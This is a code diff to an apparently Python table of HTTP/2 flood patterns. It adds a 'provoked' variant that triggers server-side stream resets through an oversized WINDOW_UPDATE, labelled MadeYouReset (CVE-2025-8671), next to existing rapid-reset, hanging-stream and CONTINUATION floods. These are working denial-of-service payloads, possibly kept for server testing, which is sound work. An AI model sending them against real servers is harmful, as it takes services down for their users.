@@ -37,6 +37,9 @@ FLOODS = {
     # Each pair makes the server begin a call and drop it.
     "reset": Flood(repeat=lambda n: frame(HEADERS, END_HEADERS, n * 2 + 1, REQUEST)
                    + frame(RST_STREAM, 0, n * 2 + 1, CANCEL)),
+    # Each pair makes the server begin a call and reset it: a window beyond 2^31 - 1 (MadeYouReset, CVE-2025-8671).
+    "provoked": Flood(repeat=lambda n: frame(HEADERS, END_HEADERS, n * 2 + 1, REQUEST)
+                      + frame(WINDOW_UPDATE, 0, n * 2 + 1, b"\x7f\xff\xff\xff")),
     # Streams that are opened, and left to hang.
     "streams": Flood(repeat=lambda n: frame(HEADERS, END_HEADERS, n * 2 + 1, REQUEST)),
     "continuation": Flood(frame(HEADERS, 0, 1, REQUEST), lambda _: frame(CONTINUATION, 0, 1)),
